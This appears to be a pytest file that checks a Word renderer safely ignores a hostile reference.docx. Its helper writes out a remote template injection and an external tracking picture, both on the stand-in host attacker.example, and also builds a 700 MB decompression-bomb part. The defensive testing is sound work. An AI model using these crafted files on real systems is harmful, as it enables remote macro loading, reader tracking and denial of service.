"""A colleague's reference.docx (issue 19, item 10).

The Word backend takes styles, numbering, theme, font table and settings
from the reference file and nothing else: not a remote attached template, not
an external picture, not a 700 MB part that zips small. Every briefing is
read back as a zip and as XML.
"""

from __future__ import annotations

import re
import zipfile
from pathlib import Path

import pytest
from measured import assert_within_limits, run_measured

from briefing_app import paths
from briefing_app.document import Document, Heading, Metadata, Paragraph, Text
from briefing_app.errors import RenderError
from briefing_app.render.docx_backend import render_docx

ATTACKER = "attacker.example"
REL_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
DOCUMENT = Document(
    Metadata(title="Reference check"),
    (Heading(1, "Heading", "1", "heading"), Paragraph((Text("Body text."),))),
)


def crafted(target: Path, big_part: str | None = None, big_mb: int = 700, parts: int = 0) -> Path:
    """The shipped reference with a remote template, an external picture, a
    header, metadata and optionally a huge part (``big_part``) or many parts."""
    with zipfile.ZipFile(paths.reference_docx()) as source:
        entries = {name: source.read(name) for name in source.namelist()}
    settings = entries["word/settings.xml"].decode()
    settings = re.sub(
        r"(<w:settings[^>]*>)",
        rf'\1<w:attachedTemplate xmlns:r="{REL_NS}" r:id="rIdRemote"/>',
        settings,
        count=1,
    )
    entries["word/settings.xml"] = settings.encode()
    entries["word/_rels/settings.xml.rels"] = _rels(
        ("rIdRemote", "attachedTemplate", f"http://{ATTACKER}/template.dotm", True)
    )
    rels = entries["word/_rels/document.xml.rels"].decode()
    extra = _rels(
        ("rIdPic", "image", f"http://{ATTACKER}/pixel.png", True),
        ("rIdHead", "header", "header9.xml", False),
        *((("rIdBig", "image", "media/big.png", False),) if big_part == "picture" else ()),
    ).decode()
    inner = re.search(r"<Relationship .*</Relationships>", extra, re.S).group(0)
    entries["word/_rels/document.xml.rels"] = rels.replace("</Relationships>", inner).encode()
    entries["word/header9.xml"] = (
        f'<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        f"<w:p><w:r><w:t>Colleague's header {ATTACKER}</w:t></w:r></w:p></w:hdr>"
    ).encode()
    document = entries["word/document.xml"].decode()
    document, found = re.subn(
        r"(<w:sectPr\b[^>]*>)",
        rf'\1<w:headerReference xmlns:r="{REL_NS}" w:type="default" r:id="rIdHead"/>',
        document,
        count=1,
    )
    assert found == 1
    entries["word/document.xml"] = document.encode()
    entries["docProps/core.xml"] = entries["docProps/core.xml"].replace(
        b"</cp:coreProperties>", f"<dc:creator>{ATTACKER}</dc:creator></cp:coreProperties>".encode()
    )
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as out:
        for name, data in entries.items():
            if not (big_part == "styles" and name == "word/styles.xml"):
                out.writestr(name, data)
        for n in range(parts):
            out.writestr(f"customXml/junk{n}.xml", b"<x/>")
        if big_part:
            name = "word/styles.xml" if big_part == "styles" else "word/media/big.png"
            with out.open(name, "w", force_zip64=True) as stream:
                chunk = b"<" + b" " * (8 * 1024 * 1024 - 1)
                for _ in range(big_mb // 8):
                    stream.write(chunk)
    return target


def _rels(*items: tuple[str, str, str, bool]) -> bytes:
    body = "".join(
        f'<Relationship Id="{rel_id}" Type="{REL_NS}/{kind}" Target="{target}"'
        + (' TargetMode="External"' if external else "")
        + "/>"
        for rel_id, kind, target, external in items
    )
    return (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships '
        f'xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{body}'
        "</Relationships>"
    ).encode()


def test_remote_template_external_picture_and_header_are_dropped(tmp_path, monkeypatch):
    reference = crafted(tmp_path / "colleague.docx")
    monkeypatch.setattr(paths, "reference_docx", lambda: reference)
    out = render_docx(DOCUMENT, tmp_path / "briefing.docx")
    with zipfile.ZipFile(out) as package:
        texts = {name: package.read(name) for name in package.namelist()}
    for name, data in texts.items():
        assert ATTACKER.encode() not in data, name
        assert b"attachedTemplate" not in data, name
        if name.endswith(".rels"):
            assert b'TargetMode="External"' not in data, name
    assert "word/header9.xml" not in texts
    # The looks did come over: the reference's styles are in the briefing.
    with zipfile.ZipFile(paths.reference_docx()) as source:
        names = set(re.findall(rb'<w:name w:val="([^"]+)"', source.read("word/styles.xml")))
    written = set(re.findall(rb'<w:name w:val="([^"]+)"', texts["word/styles.xml"]))
    assert names <= written


def test_a_700_mb_picture_is_never_read(tmp_path):
    reference = crafted(tmp_path / "colleague.docx", big_part="picture")
    assert reference.stat().st_size < 50 * 1024 * 1024
    outcome = run_measured(
        """
        from pathlib import Path
        from briefing_app import paths
        from briefing_app.document import Document, Metadata, Paragraph, Text
        from briefing_app.render.docx_backend import render_docx
        paths.reference_docx = lambda: Path(sys.argv[1])
        out = render_docx(Document(Metadata(title="T"), (Paragraph((Text("x"),)),)), sys.argv[2])
        outcome["size"] = Path(out).stat().st_size
        """,
        str(reference),
        str(tmp_path / "briefing.docx"),
    )
    assert_within_limits(outcome)
    assert outcome["error"] is None, outcome
    assert outcome["size"] < 1024 * 1024


def test_a_700_mb_style_part_is_refused_with_the_file_named(tmp_path):
    reference = crafted(tmp_path / "colleague.docx", big_part="styles")
    outcome = run_measured(
        """
        from pathlib import Path
        from briefing_app import paths
        from briefing_app.document import Document, Metadata, Paragraph, Text
        from briefing_app.render.docx_backend import render_docx
        paths.reference_docx = lambda: Path(sys.argv[1])
        render_docx(Document(Metadata(title="T"), (Paragraph((Text("x"),)),)), sys.argv[2])
        """,
        str(reference),
        str(tmp_path / "briefing.docx"),
    )
    assert_within_limits(outcome)
    assert outcome["error"].startswith("RenderError"), outcome
    assert str(reference) in outcome["error"] and "too big" in outcome["error"]
    assert not (tmp_path / "briefing.docx").exists()


def test_a_reference_of_too_many_parts_is_refused(tmp_path, monkeypatch):
    reference = crafted(tmp_path / "colleague.docx", parts=1_200)
    monkeypatch.setattr(paths, "reference_docx", lambda: reference)
    with pytest.raises(RenderError, match="too big to use: it has 1,2"):
        render_docx(DOCUMENT, tmp_path / "briefing.docx")


def test_a_reference_that_is_not_a_zip_is_a_clear_error(tmp_path, monkeypatch):
    reference = tmp_path / "colleague.docx"
    reference.write_bytes(b"not a zip")
    monkeypatch.setattr(paths, "reference_docx", lambda: reference)
    with pytest.raises(RenderError, match="cannot open the Word reference file"):
        render_docx(DOCUMENT, tmp_path / "briefing.docx")
